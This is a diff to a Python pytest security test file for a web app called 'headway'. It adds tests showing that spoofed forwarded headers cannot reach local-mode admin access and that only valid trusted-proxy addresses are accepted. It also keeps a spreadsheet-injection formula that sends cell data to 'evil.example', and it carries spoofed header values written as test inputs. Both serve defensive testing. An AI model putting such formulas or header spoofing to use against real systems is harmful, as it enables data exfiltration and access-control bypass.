@@ -14,11 +14,12 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from fastapi import FastAPI
+from fastapi import FastAPI, Request
 from typer.testing import CliRunner
 
 from headway.cli import app as cli_app
-from headway.settings import Settings
+from headway.errors import ConfigError
+from headway.settings import Settings, load_settings
 from headway.store import Store
 from headway.store.api_keys import create_key
 from headway.web.app import create_app
@@ -28,7 +29,7 @@ from tests.web.api.conftest import build_world
 from tests.web.auth_support import Browser, auth_app, log_in
 from tests.web.conftest import Client
 
-FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 JOURNEY = """\
 name: Signup
 window: 30d
@@ -174,3 +175,58 @@ def test_the_host_header_is_never_reflected(world_app: FastAPI, store: Store) ->
 def _policy(header: str) -> dict[str, list[str]]:
     directives = [d.split() for d in header.split(";") if d.strip()]
     return {d[0]: d[1:] for d in directives}
+
+
+# -- forwarded addresses ------------------------------------------------------------------------
+PROXY = ("10.0.0.5", 40000)
+REMOTE = ("203.0.113.9", 40000)
+
+
+def _proxied_app(store: Store, trusted: list[str]) -> FastAPI:
+    app = auth_app(store, Settings(tracking={"enabled": False}, http={"trusted_proxies": trusted}))
+
+    @app.get("/test/peer")
+    def peer(request: Request) -> dict[str, str]:
+        return {
+            "client": request.client.host if request.client else "",
+            "scheme": request.url.scheme,
+        }
+
+    return app
+
+
+def test_a_relayed_request_never_reaches_local_mode(store: Store) -> None:
+    app = auth_app(store)  # no keys: local mode
+    local = Browser(app)  # from 127.0.0.1, like a reverse proxy on this machine
+    assert local.get("/api/v1/test/admin").status_code == 200
+    for header in ("X-Forwarded-For", "Forwarded", "X-Real-IP"):
+        for value in ("127.0.0.1", "for=127.0.0.1", "198.51.100.7"):
+            r = local.get("/api/v1/test/admin", headers={header: value})
+            assert r.status_code == 401, (header, value)
+    spoofed = {"X-Forwarded-For": "127.0.0.1"}
+    for trusted in (["10.0.0.0/8"], ["0.0.0.0/0"]):  # proxies trusted broadly
+        remote = Browser(_proxied_app(store, trusted), client=REMOTE)
+        assert remote.get("/api/v1/test/admin", headers=spoofed).status_code == 401
+
+
+def test_forwarded_headers_count_only_from_trusted_proxies(store: Store) -> None:
+    app = _proxied_app(store, ["10.0.0.5"])
+    chain = {"X-Forwarded-For": "127.0.0.1, 198.51.100.7", "X-Forwarded-Proto": "https"}
+    via_proxy = Browser(app, client=PROXY).get("/test/peer", headers=chain).json()
+    assert via_proxy == {"client": "198.51.100.7", "scheme": "https"}  # right-most untrusted
+    chain = {"X-Forwarded-For": "198.51.100.7, 10.0.0.5", "X-Forwarded-Proto": "https"}
+    two_hops = Browser(app, client=PROXY).get("/test/peer", headers=chain).json()
+    assert two_hops["client"] == "198.51.100.7"
+    direct = Browser(app, client=REMOTE).get("/test/peer", headers=chain).json()
+    assert direct == {"client": "203.0.113.9", "scheme": "http"}  # not a proxy: ignored
+    unset = Browser(_proxied_app(store, []), client=PROXY)  # no proxy trusted: the peer
+    assert unset.get("/test/peer", headers=chain).json()["client"] == "10.0.0.5"
+
+
+@pytest.mark.parametrize("entry", ["*", "proxy.example.com", "10.0.0.300", "10.0.0.0/33"])
+def test_trusted_proxies_are_addresses_only(entry: str, tmp_path: Path) -> None:
+    path = tmp_path / "headway.toml"
+    path.write_text(f'[http]\ntrusted_proxies = ["10.0.0.5", "{entry}"]\n')
+    with pytest.raises(ConfigError) as caught:
+        load_settings(path)
+    assert str(caught.value).startswith("setting http.trusted_proxies is invalid: ")
